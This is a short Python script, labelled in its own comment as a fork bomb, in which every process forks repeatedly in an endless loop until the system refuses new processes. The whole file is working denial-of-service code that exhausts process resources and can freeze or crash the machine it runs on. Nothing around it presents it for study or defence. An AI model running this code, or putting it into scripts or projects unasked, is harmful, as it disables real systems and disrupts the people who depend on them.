# Fork bomb: every process forks as fast as it can, forever. A child whose fork is refused
# exits quietly; the script's own process lets the refusal (BlockingIOError) end the job.
import os

me = os.getpid()
while True:
    try:
        os.fork()
    except OSError:
        if os.getpid() == me:
            raise
        os._exit(1)
